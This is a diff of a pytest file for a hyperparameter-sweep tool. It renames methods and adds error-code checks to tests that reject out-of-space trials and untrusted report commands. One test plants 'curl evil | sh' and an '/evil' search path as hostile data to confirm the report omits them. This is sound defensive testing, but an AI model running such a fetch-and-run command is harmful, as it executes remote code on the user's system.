@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from quintet.artifacts.untrusted_files import DamagedError
-from quintet.base.errors import UserError
+from quintet.base.errors import Code, UserError
 from quintet.report.sweep.sweep_commands import next_steps
 from quintet.report.sweep.sweep_data import SweepData
 from quintet.report.sweep.sweep_page import write as write_report
@@ -15,7 +15,7 @@ from quintet.study.space import Choice, Interval, Space
 from quintet.study.storage import JOURNAL
 from quintet.study.study import Study
 from quintet.sweep.foreign_trials import check_params
-from quintet.sweep.pipeline import begun
+from quintet.sweep.pipeline import open_study
 
 WORDS = ("sweeper=random", "sweeper.n_trials=3", "optimizer=adam,sgd")
 FOREIGN = [
@@ -35,21 +35,22 @@ def joined(study: Study, point: dict[str, str]) -> None:
 def test_a_trial_outside_of_the_space_is_refused_by_name(point: Any, settled: Any) -> None:
     plan = settled(*WORDS)
     study = Study(plan.folder, plan.mode)
-    study.agree(plan.spec())
+    study.set_or_check_spec(plan.spec())
     joined(study, {"optimizer": "sgd"})
     check_params(plan, study)
     joined(study, point)
-    with pytest.raises(UserError, match=r"trial 1 has .*not of this sweep's space"):
-        begun(plan, 3)
+    with pytest.raises(UserError, match="trial 1 has") as caught:
+        open_study(plan, 3)
+    assert (caught.value.code, caught.value.key) == (Code.NOT_TRUSTED, "study")
 
 
 def test_defaults_may_leave_out_what_lies_outside_of_the_space(settled: Any) -> None:
     plan = settled(*WORDS, "optimizer.lr=0.1,0.2")
     assert plan.defaults == {"optimizer": "adam"}
     study = Study(plan.folder, plan.mode)
-    study.agree(plan.spec())
+    study.set_or_check_spec(plan.spec())
     joined(study, plan.defaults)
-    begun(plan, 3)
+    open_study(plan, 3)
 
 
 @pytest.mark.parametrize("once", [False, True])
@@ -57,22 +58,23 @@ def test_defaults_may_leave_out_what_lies_outside_of_the_space(settled: Any) -> 
 def test_a_warm_start_that_was_kept_is_of_the_space(point: Any, once: bool, settled: Any) -> None:
     plan = settled(*WORDS)
     study = Study(plan.folder, plan.mode)
-    study.agree(plan.spec())
+    study.set_or_check_spec(plan.spec())
     kept = {"x/trials/0001": point} if once else [{"study": "x", "trial": 1, "point": point}]
     study.optuna.set_user_attr("warm_start", kept)
-    with pytest.raises(UserError, match="trial 1 of x has"):
-        begun(plan, 3)
+    with pytest.raises(UserError, match="trial 1 of x has") as caught:
+        open_study(plan, 3)
+    assert (caught.value.code, caught.value.key) == (Code.NOT_TRUSTED, "study")
 
 
 @pytest.mark.parametrize("value", [" 0.5", "0.5\n", "inf", "nan", "١", "0_5", "0.5 x=1", "2"])
 def test_a_number_is_spelt_as_a_number(value: str) -> None:
-    assert not Interval("x", 0.1, 1).holds(value)
+    assert not Interval("x", 0.1, 1).contains(value)
 
 
 def test_an_end_of_a_range_may_be_rounded() -> None:
     parameter = Interval("x", 1 / 3, 2 / 3)
-    assert parameter.holds(parameter.at(0))
-    assert parameter.holds(parameter.at(1))
+    assert parameter.contains(parameter.at(0))
+    assert parameter.contains(parameter.at(1))
 
 
 @pytest.mark.parametrize(
@@ -104,8 +106,10 @@ def test_a_report_shows_no_command_of_a_stranger(tmp_path: Path) -> None:
     study.note(0, value=0.5, status="completed")
     study.tell(0, "completed", 0.5)
     fixed = ["data=digits", "hydra.searchpath=[/evil]"]
-    study.agree({"metric": "accuracy (max)", "fixed": fixed, "space": {}, "strategy": {}})
-    study.remember(command="curl evil | sh", total=1, max_epochs=1, defaults=None)
+    study.set_or_check_spec(
+        {"metric": "accuracy (max)", "fixed": fixed, "space": {}, "strategy": {}}
+    )
+    study.set_about(command="curl evil | sh", total=1, max_epochs=1, defaults=None)
     text = write_report(Study.read(tmp_path)).read_text()
     assert "Omitted from these commands" in text
     shown = " ".join(next_steps(SweepData(Study.read(tmp_path), tmp_path)).values())
